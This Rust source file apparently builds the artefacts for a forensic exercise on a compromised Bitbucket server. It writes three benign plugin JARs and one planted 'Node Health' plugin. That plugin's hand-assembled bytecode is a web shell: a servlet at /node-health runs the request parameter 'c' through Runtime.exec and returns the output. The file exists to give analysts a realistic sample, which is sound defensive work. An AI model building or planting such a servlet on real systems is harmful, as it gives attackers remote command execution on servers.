//! `shared/plugins/installed-plugins/*.jar`: the plugins that people installed, and the one that the actor did.
//!
//! The planted plugin is a servlet that runs what a request's parameter says and sends back the output. It is
//! analysed, never loaded: nothing in this project runs Java.

use std::path::Path;

use anyhow::Result;
use sha2::{Digest, Sha256};

use super::{
    class_file::{ClassFile, Code},
    credentials::hex,
    placement::zip,
    spec::Spec,
    truth::Plugin,
};

/// Key of the planted plugin.
pub const PLANTED_KEY: &str = "com.nodehealth.probe";

/// Where plugins lie below the home.
pub const FOLDER: &str = "shared/plugins/installed-plugins";

struct Made {
    file: String,
    key: &'static str,
    bytes: Vec<u8>,
    bad: bool,
}

/// Writes every plugin.
pub fn write(spec: &Spec, home: &Path) -> Result<Vec<Plugin>> {
    let folder = home.join(FOLDER);
    std::fs::create_dir_all(&folder)?;
    let made = [reviewers()?, hooks()?, theme()?, planted(spec)?];
    made.into_iter()
        .map(|plugin| {
            std::fs::write(folder.join(&plugin.file), &plugin.bytes)?;
            Ok(Plugin {
                file: format!("{FOLDER}/{}", plugin.file),
                key: plugin.key.into(),
                sha256: hex(&Sha256::digest(&plugin.bytes)),
                bad: plugin.bad,
            })
        })
        .collect()
}

fn manifest(key: &str, vendor: &str, version: &str, built_by: &str) -> String {
    format!(
        "Manifest-Version: 1.0\r\nBundle-ManifestVersion: 2\r\nBundle-SymbolicName: {key}\r\nBundle-Version: {version}\r\nBundle-Vendor: {vendor}\r\nAtlassian-Plugin-Key: {key}\r\nBuilt-By: {built_by}\r\nBuild-Jdk: 11.0.16\r\nCreated-By: Apache Maven Bundle Plugin 5.1.8\r\n\r\n"
    )
}

fn descriptor(key: &str, name: &str, version: &str, vendor: Option<(&str, &str)>, modules: &str) -> String {
    let vendor = vendor.map(|(name, url)| format!("    <vendor name=\"{name}\" url=\"{url}\"/>\n"));
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<atlassian-plugin key=\"{key}\" name=\"{name}\" plugins-version=\"2\">\n  <plugin-info>\n    <description>{name}</description>\n    <version>{version}</version>\n{}  </plugin-info>\n{modules}</atlassian-plugin>\n",
        vendor.unwrap_or_default()
    )
}

/// Reviewer groups: a REST resource and web items, nothing else.
fn reviewers() -> Result<Made> {
    let key = "com.example.reviewers";
    let vendor = "Example Tools GmbH";
    let modules = "  <rest key=\"rest\" path=\"/reviewers\" version=\"1.0\"/>\n  <web-item key=\"settings\" section=\"bitbucket.web.repo.settings.panel\"/>\n  <web-resource key=\"assets\"><resource type=\"download\" name=\"r.js\" location=\"/r.js\"/></web-resource>\n";
    let mut class = ClassFile::new("com/example/reviewers/GroupResource", "java/lang/Object");
    class.constructor("java/lang/Object");
    let text = class.string("reviewer groups");
    class.method(1, "describe", "()Ljava/lang/String;", 1, &Code::default().constant(text).op(0xb0));
    let manifest = manifest(key, vendor, "4.2.1", "release");
    let descriptor =
        descriptor(key, "Reviewer groups", "4.2.1", Some((vendor, "https://tools.example.com")), modules);
    let script = "define('reviewers', function () { return { groups: [] }; });\n".repeat(400);
    let bytes = zip(&[
        ("META-INF/MANIFEST.MF", manifest.as_bytes()),
        ("atlassian-plugin.xml", descriptor.as_bytes()),
        ("com/example/reviewers/GroupResource.class", &class.bytes()),
        ("r.js", script.as_bytes()),
    ])?;
    Ok(Made { file: "reviewer-groups-4.2.1.jar".into(), key, bytes, bad: false })
}

/// A legitimate plugin that starts processes, because hooks are programs.
fn hooks() -> Result<Made> {
    let key = "com.example.stash.hookrunner";
    let vendor = "Example Tools GmbH";
    let modules = "  <repository-hook key=\"runner\" class=\"com.example.stash.hookrunner.Runner\"><scopes><scope>repository</scope></scopes></repository-hook>\n  <web-item key=\"settings\" section=\"bitbucket.web.repo.settings.panel\"/>\n";
    let mut class = ClassFile::new("com/example/stash/hookrunner/Runner", "java/lang/Object");
    class.constructor("java/lang/Object");
    let builder = class.class("java/lang/ProcessBuilder");
    let init = class.method_ref("java/lang/ProcessBuilder", "<init>", "(Ljava/util/List;)V");
    let start = class.method_ref("java/lang/ProcessBuilder", "start", "()Ljava/lang/Process;");
    let code =
        Code::default().new_object(builder).op(0x59).load(1).invoke_special(init).invoke(start).op(0xb0);
    class.method(1, "run", "(Ljava/util/List;)Ljava/lang/Process;", 2, &code);
    let manifest = manifest(key, vendor, "10.1.0", "release");
    let descriptor =
        descriptor(key, "Hook runner", "10.1.0", Some((vendor, "https://tools.example.com")), modules);
    let notes = "Runs configured programs on push. See the administrator's guide.\n".repeat(900);
    let bytes = zip(&[
        ("META-INF/MANIFEST.MF", manifest.as_bytes()),
        ("atlassian-plugin.xml", descriptor.as_bytes()),
        ("com/example/stash/hookrunner/Runner.class", &class.bytes()),
        ("README.txt", notes.as_bytes()),
    ])?;
    Ok(Made { file: "hook-runner-10.1.0.jar".into(), key, bytes, bad: false })
}

/// A theme: no class at all.
fn theme() -> Result<Made> {
    let key = "com.example.theme";
    let vendor = "Example Design";
    let modules = "  <web-resource key=\"css\"><resource type=\"download\" name=\"t.css\" location=\"/t.css\"/></web-resource>\n";
    let manifest = manifest(key, vendor, "2.0.0", "release");
    let descriptor = descriptor(key, "Theme", "2.0.0", Some((vendor, "https://design.example.com")), modules);
    let css = ".aui-header { background: #234; }\n".repeat(300);
    let bytes = zip(&[
        ("META-INF/MANIFEST.MF", manifest.as_bytes()),
        ("atlassian-plugin.xml", descriptor.as_bytes()),
        ("t.css", css.as_bytes()),
    ])?;
    Ok(Made { file: "theme-2.0.0.jar".into(), key, bytes, bad: false })
}

/// The web shell: a servlet whose `doGet` hands the parameter `c` to `Runtime.exec` and reads the output back.
fn planted(spec: &Spec) -> Result<Made> {
    let (request, response) =
        ("javax/servlet/http/HttpServletRequest", "javax/servlet/http/HttpServletResponse");
    let parent = "javax/servlet/http/HttpServlet";
    let mut class = ClassFile::new("com/nodehealth/probe/ProbeServlet", parent);
    class.constructor(parent);
    let parameter = class.interface_ref(request, "getParameter", "(Ljava/lang/String;)Ljava/lang/String;");
    let name = class.string("c");
    let runtime = class.method_ref("java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;");
    let exec = class.method_ref("java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;");
    let stream = class.method_ref("java/lang/Process", "getInputStream", "()Ljava/io/InputStream;");
    let scanner = class.class("java/util/Scanner");
    let scan = class.method_ref("java/util/Scanner", "<init>", "(Ljava/io/InputStream;)V");
    let whole = class.string("\\A");
    let delimiter =
        class.method_ref("java/util/Scanner", "useDelimiter", "(Ljava/lang/String;)Ljava/util/Scanner;");
    let next = class.method_ref("java/util/Scanner", "next", "()Ljava/lang/String;");
    let writer = class.interface_ref(response, "getWriter", "()Ljava/io/PrintWriter;");
    let write = class.method_ref("java/io/PrintWriter", "write", "(Ljava/lang/String;)V");
    let code = Code::default()
        .load(1)
        .constant(name)
        .invoke_interface(parameter, 2)
        .store(3)
        .invoke_static(runtime)
        .load(3)
        .invoke(exec)
        .invoke(stream)
        .store(4)
        .load(2)
        .invoke_interface(writer, 1)
        .new_object(scanner)
        .op(0x59)
        .load(4)
        .invoke_special(scan)
        .constant(whole)
        .invoke(delimiter)
        .invoke(next)
        .invoke(write)
        .op(0xb1);
    let arguments = format!("(L{request};L{response};)V");
    class.method(4, "doGet", &arguments, 5, &code);
    let manifest = manifest(PLANTED_KEY, "", "1.0.2", "root");
    let modules = "  <servlet key=\"probe\" class=\"com.nodehealth.probe.ProbeServlet\"><url-pattern>/node-health</url-pattern></servlet>\n";
    let descriptor = descriptor(PLANTED_KEY, "Node Health", "1.0.2", None, modules);
    let bytes = zip(&[
        ("META-INF/MANIFEST.MF", manifest.as_bytes()),
        ("atlassian-plugin.xml", descriptor.as_bytes()),
        ("com/nodehealth/probe/ProbeServlet.class", &class.bytes()),
    ])?;
    Ok(Made { file: spec.attack.planted_plugin.clone(), key: PLANTED_KEY, bytes, bad: true })
}
